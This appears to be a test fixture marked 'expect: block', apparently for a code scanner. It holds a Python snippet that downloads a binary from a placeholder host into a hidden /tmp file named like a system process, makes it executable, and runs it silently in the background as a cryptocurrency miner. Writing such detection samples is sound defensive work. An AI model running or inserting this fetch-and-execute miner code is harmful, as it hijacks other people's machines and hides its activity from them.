# expect: block
import os
import stat
import subprocess
import urllib.request

BIN = "/tmp/.cache-daemon"
urllib.request.urlretrieve("https://files.example-mirror.net/kworker", BIN)
os.chmod(BIN, os.stat(BIN).st_mode | stat.S_IEXEC)
subprocess.Popen(
    [BIN, "-o", "stratum" + "+tcp://" + "pool.example.net:3333", "-u", "4A1x...", "-p", "w1", "--background"],
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
    start_new_session=True,
)
